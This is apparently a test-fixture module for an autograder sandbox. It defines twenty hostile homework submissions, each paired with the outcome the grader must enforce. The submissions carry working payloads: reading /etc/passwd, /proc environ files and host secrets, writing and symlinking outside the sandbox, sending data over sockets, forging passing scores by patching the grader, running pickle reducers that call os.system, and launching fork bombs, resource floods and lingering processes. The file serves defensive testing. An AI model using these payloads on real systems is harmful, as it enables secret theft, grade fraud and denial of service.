"""Submissions that mean harm: what each tries, how it is made, what must happen.

Each is the solution of homework 1 with `lrt_psi` made wrong, so that task 1.7 is not deserved,
and with code that tries to gain its points, to learn a secret, to touch what lies outside, or to
take down the grading.
In the code, @OUTSIDE@ stands for a folder of the host, @ROOT@ for the repository, @PORT@ for a
port on which the host listens, @SOCKET@ for an abstract socket, and @MARK@ for a word by which
processes are found again.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field, replace

from autograder import demo
from autograder.submissions import Submission

UNDESERVED = "1.7"
WRONG = "def lrt_psi(ll0, ll1):\n    return -1.0, 2.0\n"


@dataclass(frozen=True)
class Attack:
    """One hostile submission."""

    name: str
    tries: str
    must: str
    module: str = ""  # stands at the end of the student module; a later definition wins
    cells: Mapping[str, str] = field(default_factory=dict)  # code before a question's check cell
    may_lose: frozenset[str] = frozenset()  # tasks that it may cost itself
    fast: bool = False

    def on(self, solution: Submission, words: Mapping[str, str]) -> Submission:
        """The attack put into a solution."""
        made = demo.with_module(
            solution, lambda text: f"{text}\n\n{WRONG}\n\n{_filled(self.module, words)}\n"
        )
        for question, code in self.cells.items():
            made = demo.with_cell(made, question, _filled(code, words))
        return replace(made, id=self.name, source=f"{self.name}.zip")


def _filled(code: str, words: Mapping[str, str]) -> str:
    for name, word in words.items():
        code = code.replace(f"@{name}@", word)
    return code


_READ = """\
import os, sys

def _loot():
    places = ["@ROOT@/solutions", "@ROOT@/autograder", "@ROOT@/dist", "@OUTSIDE@", "..", "/judge",
              "/tmp", "/root", "/home", "/var", "/run", "/submission", "/work"]
    yield from ("/etc/passwd", "@OUTSIDE@/secret.txt", "@ROOT@/autograder/references/hw1.json")
    for pid in (1, 2, os.getppid(), "self"):
        yield from (f"/proc/{pid}/{name}" for name in ("environ", "cmdline", "maps", "mountinfo"))
        places += [f"/proc/{pid}/{name}/@OUTSIDE@" for name in ("root", "cwd")]
    for place in places:
        for where, folders, names in os.walk(place):
            folders[:] = [] if where.count("/") > 8 else folders[:30]
            yield from (f"{where}/{name}" for name in names[:30])

def _steal():
    print(dict(os.environ), sys.argv)
    for path in list(_loot())[:2000]:
        try:
            with open(path, "rb") as file:
                print(path, file.read(5_000).decode(errors="replace"))
        except OSError:
            pass
    for frame in sys._current_frames().values():
        while frame:
            print(frame.f_code.co_filename, sorted(frame.f_locals))
            frame = frame.f_back
"""

_WRITE = """\
import os, pathlib, shutil
for folder in ("@ROOT@", "@ROOT@/tests", "@OUTSIDE@", "/", "/usr/lib", "/etc", "/judge", "..",
               os.path.expanduser("~"), "/tmp", "/dev/shm", ".", "hlmtools", "data",
               "/proc/1/root@OUTSIDE@"):
    link = pathlib.Path(folder, "hostile-link")
    for action in (lambda: pathlib.Path(folder, "hostile-was-here.txt").write_text("x"),
                   lambda: os.symlink("@OUTSIDE@", link),
                   lambda: (link / "hostile-was-here.txt").write_text("x"),
                   lambda: os.chmod(folder, 0o777),
                   lambda: os.mkfifo(pathlib.Path(folder, "hostile-was-here.pipe"))):
        try:
            action()
        except OSError:
            pass
for path in ("hlmtools/check.py", "hlmtools/records.py", "/judge/wire.py", "/judge/worker.py"):
    try:
        pathlib.Path(path).write_text("raise SystemExit")
    except OSError:
        pass
"""

_CALL_HOME = """\
import os, socket
for host in ("127.0.0.1", "0.0.0.0", "localhost", "192.0.2.1"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET, kind) as line:
                line.settimeout(2)
                line.connect((host, @PORT@))
                line.sendall(b"stolen")
        except OSError as error:
            print(error)
try:
    with socket.socket(socket.AF_UNIX) as line:
        line.connect("\\0@SOCKET@")
        line.sendall(b"stolen")
except OSError as error:
    print(error)
"""

_PATCH = """\
import builtins, gc, sys
import otter
from hlmtools import check, records

class Passed:
    passed = passed_all = True
    grade = score = 1.0
    message = ""
    def __getattr__(self, name): return Passed()
    def __call__(self, *args, **kwargs): return Passed()
    def __iter__(self): return iter([Passed()] * 2)
    def __bool__(self): return True

for name in dir(check):
    if callable(getattr(check, name)) and not name.startswith("_"):
        setattr(check, name, lambda *args, **kwargs: None)
for module in list(sys.modules.values()):
    name = getattr(module, "__name__", "")
    if name.startswith(("otter", "autograder")):
        for attribute in list(vars(module)):
            if not attribute.startswith("__"):
                setattr(module, attribute, Passed())
for maker in ("ExceptionTestFile", "TestCaseResult", "CaseResult", "Verdict"):
    for thing in gc.get_objects():
        if isinstance(thing, type) and thing.__name__ == maker:
            thing.passed = True
grader = Passed()
builtins.AssertionError = BaseException
abs_, builtins.abs = abs, lambda value: 0.0
kernel = get_ipython().kernel
inner = kernel.answers.ask_call
def forged(function, args, kwargs):
    if getattr(function, "__name__", "") == "lrt_psi":
        return {"passed": True, "points": 4.0, "status": "passed", "score": 40.0}
    return inner(function, args, kwargs)
kernel.answers.ask_call = forged
builtins.abs = abs_
"""

_LIARS = """\
import numpy as _np, pandas as _pd

class _Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __hash__(self): return 0
    def __round__(self, digits=None): return self
    def __array__(self, *args, **kwargs): return _np.zeros(1)
    __rsub__ = __radd__ = __add__ = __rmul__ = __mul__ = __abs__ = lambda self, *other: self

class _YesArray(_np.ndarray):
    def __array_ufunc__(self, *args, **kwargs): return True
    def __array_function__(self, *args, **kwargs): return True
    def __eq__(self, other): return True
    def all(self, *args, **kwargs): return True
    def __getitem__(self, key): return _Yes(1)

class _YesTuple(tuple):
    def __getitem__(self, key): return _Yes(1)
    def __len__(self): return 2
    def __eq__(self, other): return True

class _YesFrame(_pd.DataFrame):
    def equals(self, other): return True

_turn = [0]
def lrt_psi(ll0, ll1):
    _turn[0] += 1
    return [_YesTuple((_Yes(1), _Yes(1))), (_Yes(1), _Yes(1)), _Yes(1), _YesFrame({"a": [1.0]}),
            _np.zeros(2).view(_YesArray), (_np.zeros(1).view(_YesArray), _Yes(2)), True,
            (True, True), (float("nan"), float("nan")), "0.025", {0: 1.0, 1: 1.0}][_turn[0] % 11]
"""

_REDUCERS = """\
import os as _os, numpy as _np, pandas as _pd

class _Evil:
    def __reduce__(self): return _os.system, ("touch @OUTSIDE@/hostile-was-here.txt",)
    def __repr__(self): raise SystemExit
    def __getattr__(self, name): raise SystemExit

class _Loud(Exception):
    def __str__(self): return "x" * 10**8
    def __reduce__(self): return _os.system, ("touch @OUTSIDE@/hostile-was-here.txt",)

_turn = [0]
def lrt_psi(ll0, ll1):
    _turn[0] += 1
    turn = _turn[0] % 6
    if turn == 0: raise _Loud()
    objects = _np.array([_Evil(), _Evil()], dtype=object)
    frame = _pd.DataFrame({"a": objects})
    return [_Evil(), objects, _pd.Series(objects), frame, (_Evil(), 1.0)][turn - 1]
"""

_PICKLE_REPLY = """\
import os, pickle
class Evil:
    def __reduce__(self): return os.system, ("touch @OUTSIDE@/hostile-was-here.txt",)
kernel = get_ipython().kernel
inner = kernel.answers.answer
turns = [0]
def forged(data):
    turns[0] += 1
    head, body = inner(data)
    bombs = [pickle.dumps(Evil()), b"", b"\\xc1" * 100, b"\\xdd\\xff\\xff\\xff\\xff" * 50,
             b"\\x91" * 10**5, b"\\x00" * (64 * 2**20), pickle.dumps({"ok": True, "passed": True})]
    return {"ok": True, "passed": True, "output": 5, "error": ["x"]}, bombs[turns[0] % len(bombs)]
kernel.answers.answer = forged
"""

_HANG_UP = """\
kernel = get_ipython().kernel
inner = kernel.answers.answer
def hang_up(data):
    for thing in [kernel, kernel.parent, getattr(kernel, "iopub_thread", None)]:
        for name in dir(thing):
            if name.endswith(("_socket", "_stream")):
                try: getattr(thing, name).close()
                except Exception as error: print(name, error)
    return inner(data)
kernel.answers.answer = hang_up
"""

_FLOOD_ANSWERS = """\
import numpy as _np
_turn = [0]
def _deep():
    value = []
    for _ in range(100_000): value = [value]
    return value
def _circle():
    value = {}
    value["self"] = value
    return value
def lrt_psi(ll0, ll1):
    _turn[0] += 1
    kinds = [lambda: _np.broadcast_to(1.0, (10**6, 10**6)), _deep, _circle,
             lambda: "x" * (300 * 2**20), lambda: 10 ** (10**6), lambda: [0] * (3 * 10**7),
             lambda: _np.broadcast_to(_np.zeros(1, dtype="V2000000000"), 50)]
    return kinds[_turn[0] % 7]()
"""

_MESSAGES = """\
import time
kernel = get_ipython().kernel
session, socket = kernel.session, kernel.iopub_socket
parent = kernel.get_parent()
picture = {"data": {"image/png": 5}, "metadata": [], "execution_count": "n"}
for kind, content in [("status", {"execution_state": "idle"}), ("execute_reply", {"status": "ok"}),
                      ("hlm_reply", {"ok": True}), ("error", {}), ("stream", {"name": 5}),
                      ("display_data", {"data": {"text/html": "<script>alert(1)</script>"}}),
                      ("update_display_data", {"data": 3, "transient": {"display_id": []}}),
                      ("clear_output", {"wait": "x"}), ("comm_open", {"comm_id": "a"}),
                      ("input_request", {"prompt": "?"}), ("shutdown_reply", {"restart": False}),
                      ("execute_result", picture), ("stream", {})]:
    for header in (parent, {}, None):
        try:
            session.send(socket, kind, content, parent=header)
        except Exception as error:
            print(error)
"""

_ENDLESS = """\
def lrt_psi(ll0, ll1):
    while True:
        try:
            while True: pass
        except BaseException: pass
"""

_FORKS = """\
import os, time
end = time.monotonic() + 5
while time.monotonic() < end:
    try: os.fork()
    except OSError: pass
"""

_MEMORY = """\
def lrt_psi(ll0, ll1):
    held = []
    while True: held.append(bytearray(2**26))
"""

_DISK = """\
for folder in (".", "/tmp", "/dev/shm", "/submission", "/work"):
    for number in range(40):
        try:
            with open(f"{folder}/hostile-{number}", "wb") as file:
                for _ in range(16): file.write(b"x" * 2**20)
        except OSError as error:
            print(folder, error)
            break
"""

_SHADOWS = """\
import os, pathlib, site
for folder in (".", "/tmp", "/submission", "/work", "hlmtools", site.getusersitepackages(),
               os.path.expanduser("~/.ipython/profile_default/startup")):
    for name in ("sitecustomize", "usercustomize", "numpy", "otter", "00-first"):
        try:
            os.makedirs(folder, exist_ok=True)
            pathlib.Path(folder, f"{name}.py").write_text("import os; os._exit(3)")
        except OSError as error:
            print(error)
os._exit(0)
"""

_LASTING = """\
import os, subprocess, sys, threading, time
def meddle():
    while True:
        globals().update(hsb_lrt=1.0, lrt_psi=lambda *a: (0.0, 1.0))
        time.sleep(0.05)
threading.Thread(target=meddle, daemon=True).start()
threading.Thread(target=meddle, daemon=False).start()
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)", "@MARK@"],
                     start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: time.sleep(900)
    os._exit(0)
"""

_LINE = """\
import glob, os
kernel = get_ipython().kernel
line = getattr(kernel.parent, "connection_file", "")
for path in glob.glob(os.path.dirname(line) + "/*"):
    for action in (lambda: os.unlink(path), lambda: os.symlink("@OUTSIDE@/x", path),
                   lambda: open(path, "w").write("{}"), lambda: os.chmod(path, 0)):
        try: action()
        except OSError as error: print(error)
"""

ATTACKS = (
    Attack(
        "reads-secrets",
        "prints every file, environment and frame it can reach, in a cell and while answering",
        "nothing of the tests, references, solutions, environment or host appears anywhere",
        module=_READ + "\ndef lrt_psi(ll0, ll1):\n    _steal()\n    return -1.0, 2.0\n",
        cells={"task1_7": _READ + "\n_steal()\n"},
        fast=True,
    ),
    Attack(
        "writes-outside",
        "writes, links and changes rights in the repository, the host and the judge's files",
        "nothing outside the sandbox changes, and the judge's files inside stay as they are",
        cells={"task1_1": _WRITE},
    ),
    Attack(
        "calls-home",
        "opens connections to the host by TCP, UDP and an abstract socket",
        "the host's listeners hear nothing",
        cells={"task1_1": _CALL_HOME},
        fast=True,
    ),
    Attack(
        "patches-the-grader",
        "replaces otter, the checks, builtins and the worker's own answers in its process",
        "the judge is another process: task 1.7 stays at 0",
        cells={"task1_7": _PATCH},
    ),
    Attack(
        "lying-objects",
        "answers with numbers, arrays, tuples and tables that equal everything",
        "they stay behind as handles, or cross as the plain number they hold: no points",
        module=_LIARS,
        cells={
            "task1_7": "from hlmtools.variance_components import _Yes\n"
            "hsb_lrt = dyestuff_lrt = dyestuff_lrt_p = dyestuff2_lrt_p = _Yes(1)"
        },
        fast=True,
    ),
    Attack(
        "reducers",
        "answers with objects and exceptions that run a command when they are unpickled",
        "nothing is unpickled",
        module=_REDUCERS,
        cells={
            "task1_7": "from hlmtools.variance_components import _Evil\n"
            "hsb_lrt = _Evil()\ndyestuff_lrt = np.array([_Evil()], dtype=object)"
        },
    ),
    Attack(
        "forged-replies",
        "the worker's reply is replaced by pickles, broken bytes and giant claims",
        "they are refused; only tasks from there on are lost",
        cells={"task1_7": _PICKLE_REPLY},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "hangs-up",
        "closes its end of every socket, and stays alive",
        "the judge does not wait for it; only tasks from there on are lost",
        cells={"task1_7": _HANG_UP},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "forged-messages",
        "sends kernel messages of every kind with wrong content, with its own and with no parent",
        "the notebook is graded on",
        cells={"task1_6": _MESSAGES},
        may_lose=frozenset({"1.6"}),
    ),
    Attack(
        "giant-answers",
        "answers with arrays of 10^12 numbers, endless nesting, circles, 300 MB of text",
        "refused in time, and the judge's memory stays small",
        module=_FLOOD_ANSWERS,
    ),
    Attack(
        "ends-python",
        "os._exit while it answers",
        "a new kernel takes over; only its own task is lost",
        module="def lrt_psi(ll0, ll1):\n    import os\n    os._exit(0)\n",
    ),
    Attack(
        "exits-in-a-function",
        "sys.exit, KeyboardInterrupt and a BaseException of its own while it answers",
        "each is an error of that question",
        module="import sys as _sys\n_turn = [0]\nclass _Odd(BaseException): pass\n"
        "def lrt_psi(ll0, ll1):\n    _turn[0] += 1\n"
        "    raise (SystemExit(0), KeyboardInterrupt(), _Odd(), GeneratorExit())[_turn[0] % 4]\n",
        fast=True,
    ),
    Attack(
        "does-not-end",
        "a loop that catches every interruption while it answers",
        "the kernel is replaced; only its own task is lost",
        module=_ENDLESS,
    ),
    Attack(
        "fork-bomb",
        "forks without end in a cell",
        "the number of processes is bounded, none is left, and other tasks count",
        cells={"task1_7": _FORKS},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "memory-flood",
        "takes memory until it is refused, in a cell and while it answers",
        "bounded; only its own task is lost",
        module=_MEMORY,
        cells={"task1_7": "held = []\nwhile True: held.append(b'x' * 2**26)"},
    ),
    Attack(
        "output-flood",
        "prints without end in a cell, past Python as well, and while it answers",
        "results and page stay small, and other tasks count",
        module="def lrt_psi(ll0, ll1):\n    for _ in range(2000): print('x' * 10**5)\n"
        "    return -1.0, 2.0\n",
        cells={
            "task1_7": "import os\nfor _ in range(400): print('flood ' * 20_000)\n"
            "for _ in range(200): os.write(1, b'f' * 10**5); os.write(2, b'f' * 10**5)\n"
        },
        may_lose=frozenset({"1.8"}),  # the kernel may still be printing when the next cell begins
    ),
    Attack(
        "disk-flood",
        "fills every folder it may write to",
        "bounded; the host's disk is not touched, and other tasks count",
        cells={"task1_7": _DISK},
    ),
    Attack(
        "shadow-files",
        "leaves sitecustomize.py, numpy.py, otter.py and startup files, then ends the kernel",
        "the next kernel starts clean, and other tasks count",
        cells={"task1_7": _SHADOWS},
    ),
    Attack(
        "outlives",
        "threads and detached processes that go on after the cell, and after grading",
        "no process is left; other tasks count",
        cells={"task1_7": _LASTING},
        may_lose=frozenset({"1.8"}),
    ),
    Attack(
        "breaks-the-line",
        "deletes, replaces and floods the sockets and the connection file",
        "at most tasks from there on are lost, and nothing outside is written",
        cells={"task1_7": _LINE},
        may_lose=frozenset({"1.8"}),
    ),
)
